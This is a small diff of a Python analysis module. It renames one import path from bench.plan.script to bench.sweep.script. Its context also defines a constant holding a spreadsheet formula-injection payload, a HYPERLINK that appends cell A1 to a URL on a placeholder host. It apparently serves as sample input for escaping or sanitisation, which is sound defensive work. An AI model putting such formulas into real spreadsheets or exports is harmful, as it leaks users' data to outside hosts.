@@ -34,7 +34,7 @@ from analysis.render.tables import (
 from analysis.render.terminal import MOST_LINES, blocks_markdown, blocks_text, escaped, run_screen, screen_of
 from analysis.views import of_findings
 from analysis.wording import FORMS, UNKNOWN, batch, inert, interval
-from bench.plan.script import plan_script
+from bench.sweep.script import plan_script
 from records.run import RunDirectory
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
